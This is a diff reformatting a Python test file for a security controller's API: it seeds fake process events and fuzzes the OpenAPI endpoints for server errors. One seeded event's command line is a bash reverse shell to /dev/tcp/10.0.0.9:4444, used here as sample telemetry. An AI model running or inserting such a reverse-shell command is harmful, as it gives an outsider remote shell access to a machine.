@@ -39,8 +39,13 @@ def seed(controller: Controller) -> str:
     events = []
     for i, cmd in enumerate(["ls -l /tmp", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"]):
         ev = new_event(Action.EXEC, host={"id": host, "name": "fuzz-01"}, tier=Tier.FALLBACK)
-        ev["process"] = {"pid": 10 + i, "entity_id": f"e{i}", "executable": "/usr/bin/bash",
-                         "command_line": cmd, "args": cmd.split()}
+        ev["process"] = {
+            "pid": 10 + i,
+            "entity_id": f"e{i}",
+            "executable": "/usr/bin/bash",
+            "command_line": cmd,
+            "args": cmd.split(),
+        }
         events.append(ev)
     assert controller.call(hooks.commit_batch(host, 1, events, 0))
     controller.call(hooks.drained())
@@ -55,8 +60,9 @@ def test_full_openapi_document_has_no_server_errors(controller: Controller) -> N
 
     seed(controller)
     token = controller.api_token("admin")
-    schema = schemathesis.openapi.from_url(f"{controller.url}/api/v1/openapi.json",
-                                           verify=str(controller.pki.ca_path))
+    schema = schemathesis.openapi.from_url(
+        f"{controller.url}/api/v1/openapi.json", verify=str(controller.pki.ca_path)
+    )
     schema = schema.exclude(path_regex=SKIP_PATHS)
     failures: list[str] = []
     count = 0
@@ -66,14 +72,20 @@ def test_full_openapi_document_has_no_server_errors(controller: Controller) -> N
         operations += 1
 
         @given(case=operation.as_strategy())
-        @settings(max_examples=EXAMPLES, deadline=None, database=None,
-                  suppress_health_check=list(HealthCheck))
+        @settings(
+            max_examples=EXAMPLES,
+            deadline=None,
+            database=None,
+            suppress_health_check=list(HealthCheck),
+        )
         def run(case: Any) -> None:
             nonlocal count
             count += 1
-            response = case.call(base_url=controller.url,
-                                 headers={"Authorization": f"Bearer {token}"},
-                                 verify=str(controller.pki.ca_path))
+            response = case.call(
+                base_url=controller.url,
+                headers={"Authorization": f"Bearer {token}"},
+                verify=str(controller.pki.ca_path),
+            )
             where = f"{case.method} {case.formatted_path}"
             if response.status_code >= 500:
                 failures.append(f"{where}: {response.status_code} {response.text[:200]}")
